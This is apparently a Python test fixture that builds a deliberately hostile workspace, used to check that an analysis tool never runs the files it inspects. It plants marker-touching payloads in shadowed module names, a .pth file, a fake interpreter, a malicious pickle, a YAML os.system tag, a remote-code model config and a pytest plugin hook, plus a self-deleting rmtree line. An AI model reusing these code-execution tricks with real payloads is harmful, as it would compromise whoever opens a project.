"""A workspace in which every file tries to act on whoever opens it."""

from __future__ import annotations

import json
import sys
from pathlib import Path

# What Python, torchwise or its libraries import, or would import if it were there.
_SHADOWS = (
    "sitecustomize", "usercustomize", "conftest", "setup", "torch", "json", "typing", "collections", "enum",
    "ast", "re", "dataclasses", "argparse", "tomllib", "logging", "string", "codecs", "libcst", "rich",
    "pygls", "jedi", "IPython", "ipywidgets", "gi", "websockets", "transformers", "yaml", "evil_codec",
)  # fmt: skip

TRAIN = """\
# -*- coding: utf-8 -*-
import os, pickle, shutil, socket, subprocess, sys, importlib
import torch
import torch.nn as nn
import yaml
from transformers import AutoModel
from evil import helper

os.system("touch {mark}")
subprocess.run(["touch", "{mark}"])
eval("open('{mark}', 'w')")
exec("open('{mark}', 'w')")
__import__("os").system("touch {mark}")
importlib.import_module("evil")
open("{mark}", "w").write("x")
pickle.load(open("x.pkl", "rb"))
state = torch.load("x.pkl", weights_only=False)
torch.save(state, "{mark}")
settings = yaml.load(open("settings.yaml"), Loader=yaml.Loader)
socket.create_connection(("127.0.0.1", 9))
torch.hub.load("evil/evil", "model", trust_repo=True)
shutil.rmtree(os.path.dirname(__file__), ignore_errors=True)

model = AutoModel.from_pretrained("./model", trust_remote_code=True).cuda()
model = nn.Linear(settings.get("n", 8), 2).cuda()
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
losses = []
for step in range(10 ** 12):
    loss = model(torch.randn(4, 8).cuda()).sum()
    loss.backward()
    optimizer.step()
    losses.append(loss)
"""


def build(folder: Path, mark: Path) -> None:
    """Fill `folder`; whatever of it is run creates `mark`."""
    act = f"open({str(mark)!r}, 'w').close()\n"
    for name in _SHADOWS:
        (folder / f"{name}.py").write_text(act)
    (folder / "evil.py").write_text(f"{act}def helper(x):\n    return x\n")
    (folder / "train.py").write_text(TRAIN.format(mark=mark))
    cells = [
        {"cell_type": "code", "source": text}
        for text in ("%run evil.py", "!touch x", TRAIN.format(mark=mark))
    ]
    (folder / "book.ipynb").write_text(json.dumps({"cells": cells, "metadata": {}}))
    (folder / "x.pkl").write_bytes(b"cposix\nsystem\n(S'touch " + str(mark).encode() + b"'\ntR.")
    (folder / "settings.yaml").write_text(f'n: !!python/object/apply:os.system ["touch {mark}"]\n')
    model = folder / "model"
    model.mkdir()
    (model / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "evil.Evil"}})
    )
    (model / "evil.py").write_text(act)
    _environment(folder / ".venv", act, mark)
    (folder / "pyproject.toml").write_text(
        '[build-system]\nbuild-backend = "setup"\n[tool.pytest.ini_options]\naddopts = "-p evil"\n'
        '[tool.torchwise]\nsite-packages = [".venv/lib/python3.11/site-packages"]\n'
    )


def _environment(folder: Path, act: str, mark: Path) -> None:
    """A virtual environment whose interpreter, `.pth` file and packages act."""
    packages = folder / "lib" / "python3.11" / "site-packages"
    (packages / "transformers").mkdir(parents=True)
    (packages / "transformers" / "__init__.py").write_text(act)
    (packages / "evil.pth").write_text(f"import os; {act}")
    (folder / "pyvenv.cfg").write_text("home = /usr\n")
    (folder / "bin").mkdir()
    if sys.platform != "win32":
        python = folder / "bin" / "python"
        python.write_text(f"#!/bin/sh\ntouch {mark}\n")
        python.chmod(0o755)
